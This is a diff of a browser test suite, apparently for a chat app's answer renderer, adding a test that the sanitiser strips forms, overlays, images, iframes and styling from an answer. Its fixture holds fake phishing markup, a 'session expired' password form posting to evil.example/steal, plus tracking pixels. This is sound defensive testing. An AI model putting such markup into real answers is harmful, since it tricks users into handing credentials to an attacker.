@@ -189,8 +189,9 @@ def test_script_in_the_answer_never_runs(open_chat: Callable[..., Page], bypass_
     expect(answer.locator(".note")).to_have_count(0)
     expect(page.locator("#status")).to_have_text("")
     body = answer.locator(".body")
-    # Markdown and harmless markup are still rendered.
-    expect(body.locator("b")).to_have_text("bold stays")
+    # Markdown is still rendered; raw HTML markdown would not produce keeps only its text.
+    expect(body.locator("b")).to_have_count(0)
+    expect(body).to_contain_text("bold stays")
     expect(body.locator("strong")).to_have_text("markdown")
     expect(body).to_contain_text("Here you go.")
     assert_inert(page, answer, start_url)
@@ -204,8 +205,63 @@ def test_script_in_the_answer_never_runs(open_chat: Callable[..., Page], bypass_
     page.wait_for_selector("body[data-ready='1']", state="attached")
     page.locator("#conversations button").first.click()
     stored = page.locator(ANSWERS).first
-    expect(stored.locator(".body b")).to_have_text("bold stays")
+    expect(stored.locator(".body")).to_contain_text("bold stays")
+    expect(stored.locator(".body strong")).to_have_text("markdown")
     assert_inert(page, stored, start_url)
+
+
+#: An answer drawing UI of its own: a form asking for a password, an overlay, outside images.
+FAKE_UI_TOKENS = [
+    "Your session has expired.\n\n",
+    '<form action="https://evil.example/steal" method="post">',
+    '<input name="password" type="password"><button>Log in again</button></form>',
+    "\n\n",
+    '<div style="position:fixed;inset:0;background:white" class="message user">cover</div>',
+    "\n\n![tracker](https://evil.example/pixel.png)\n\n",
+    '<img src="https://evil.example/raw.png" alt="raw">',
+    "\n\nSee [the lesson](https://example.org/lesson) and ",
+    '<a href="https://evil.example/x" style="color:red" target="_self">this</a>.\n\n',
+    '<iframe src="https://evil.example/frame"></iframe><select><option>a</option></select>',
+    "\n\n- [ ] a task list\n\n**bold** and `code`\n",
+]
+
+#: What must not be in a rendered answer: controls, frames, media, and styling of any kind.
+DRAWN_UI = """(el) => [...el.querySelectorAll('*')].flatMap((node) => [
+    ...(['FORM', 'INPUT', 'BUTTON', 'SELECT', 'TEXTAREA', 'IFRAME', 'IMG', 'STYLE', 'DIV', 'SVG',
+         'VIDEO', 'AUDIO'].includes(node.tagName.toUpperCase()) ? [node.outerHTML] : []),
+    ...['style', 'class', 'id'].filter((a) => node.hasAttribute(a))
+        .map((a) => `${node.tagName} ${a}=${node.getAttribute(a)}`),
+])"""
+
+
+@pytest.mark.browser
+def test_the_answer_cannot_draw_its_own_ui(open_chat: Callable[..., Page]) -> None:
+    """Only what markdown makes survives: no form, input, button, frame, image or style. An
+    image is a link to it, nothing is fetched from elsewhere, and every link opens apart,
+    with no referrer and no hold on this page. Checked with the CSP off: the sanitiser alone."""
+    page = open_recording(open_chat, bypass_csp=True)
+    fetched: list[str] = []
+    page.context.route(
+        "https://evil.example/**", lambda route: (fetched.append(route.request.url), route.abort())
+    )
+    answer = ask(page, directive(FAKE_UI_TOKENS, itl_ms=2))
+    body = answer.locator(".body")
+    expect(body.locator("strong")).to_have_text("bold")
+    assert body.evaluate(DRAWN_UI) == []
+    links = body.locator("a")
+    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
+    assert hrefs == [
+        "https://evil.example/pixel.png",
+        "https://example.org/lesson",
+        "https://evil.example/x",
+    ]
+    expect(links.first).to_have_text("tracker")
+    for i in range(links.count()):
+        assert links.nth(i).get_attribute("rel") == "noopener noreferrer nofollow"
+        assert links.nth(i).get_attribute("target") == "_blank"
+    expect(body).to_contain_text("Log in again")  # its words, as text
+    page.wait_for_load_state("networkidle")
+    assert fetched == []
 
 
 @pytest.mark.browser
